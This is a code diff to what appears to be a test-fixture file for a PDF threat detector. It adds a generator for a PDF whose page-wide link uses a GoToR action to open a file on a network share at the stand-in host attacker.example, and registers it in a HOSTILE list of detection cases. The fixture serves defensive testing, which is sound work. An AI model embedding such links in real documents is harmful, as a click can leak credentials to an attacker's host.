@@ -61,6 +61,17 @@ def pdf_hex_escaped_launch() -> bytes:
     )
 
 
+def pdf_link_to_file_on_share() -> bytes:
+    # A link that opens another PDF from a network share (GoToR).
+    return raw_pdf(
+        b"<</Type/Catalog/Pages 2 0 R>>",
+        _PAGES,
+        _page(b"/Annots[4 0 R]"),
+        b"<</Type/Annot/Subtype/Link/Rect[0 0 595 842]"
+        b"/A<</S/GoToR/F(\\\\\\\\attacker.example\\\\s\\\\x.pdf)/D[0/Fit]>>>>",
+    )
+
+
 def pdf_xfa() -> bytes:
     return raw_pdf(
         b"<</Type/Catalog/Pages 2 0 R/AcroForm<</Fields[]/XFA 4 0 R>>>>",
@@ -508,6 +519,7 @@ HOSTILE = {
     "pdf-hex-escaped-javascript": (pdf_hex_escaped_javascript, "脚本（JavaScript）"),
     "pdf-javascript-in-object-stream": (pdf_javascript_in_object_stream, "脚本（JavaScript）"),
     "pdf-hex-escaped-launch": (pdf_hex_escaped_launch, "启动外部程序"),
+    "pdf-link-to-file-on-share": (pdf_link_to_file_on_share, "启动外部程序或文件"),
     "pdf-embedded-file": (pdf_embedded_file, "嵌入的文件"),
     "pdf-xfa": (pdf_xfa, "XFA"),
     "pdf-open-action-javascript": (pdf_open_action_javascript, "脚本（JavaScript）"),
